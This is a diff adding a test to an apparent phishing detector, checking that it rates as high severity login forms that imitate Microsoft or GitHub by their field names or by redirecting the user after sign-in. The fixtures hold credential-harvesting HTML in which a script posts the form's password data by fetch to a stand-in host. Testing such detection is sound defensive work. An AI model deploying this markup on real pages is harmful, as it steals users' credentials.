@@ -101,3 +101,16 @@ test('a page sends a form by itself into a frame that nobody sees', () => {
   assert.deepEqual(said(dataLeak, `${form}<iframe name=x></iframe><script>f.submit()</script>`), []);
   assert.deepEqual(said(dataLeak, `${form}<button form=f>Open</button><iframe name=x hidden></iframe>`), []);
 });
+
+test('a login that is taken for the one of a service by its fields, or by where it leads whoever has signed in', () => {
+  const told = (form: string, after: string) => findingsOf(dataLeak, { 'index.html': `<!doctype html><html><body><form id="f">${form}<button>Sign in</button></form><script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch('https://login.edge.example/next', { method: 'POST', mode: 'no-cors', body: new FormData(e.target) })${after} }</script></body></html>` }).filter(({ message }) => message.startsWith('a page asks for the password')).map(({ severity }) => severity);
+  const PLAIN = '<input name="mail"><input type="password" name="word">';
+  assert.deepEqual(told('<input name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd">', ''), ['high']);
+  assert.deepEqual(told('<input id="login_field"><input type="password" name="password">', ''), ['high']);
+  assert.deepEqual(told(PLAIN, ".then(function () { location = 'https://www.office.com' })"), ['high']);
+  assert.deepEqual(told(PLAIN, ".finally(() => window.location.replace('https://github.com/'))"), ['high']);
+  // A shop of its own, one that goes on to a path, and one that is asked for as such.
+  assert.deepEqual(told(PLAIN, ".then(function () { location = 'https://shop.edge.example' })"), []);
+  assert.deepEqual(told(PLAIN, ".then(() => { location.href = 'https://github.com/login/oauth/authorize?client_id=1' })"), []);
+  assert.deepEqual(told('<input name="loginfmt"><input name="code">', ''), []);
+});
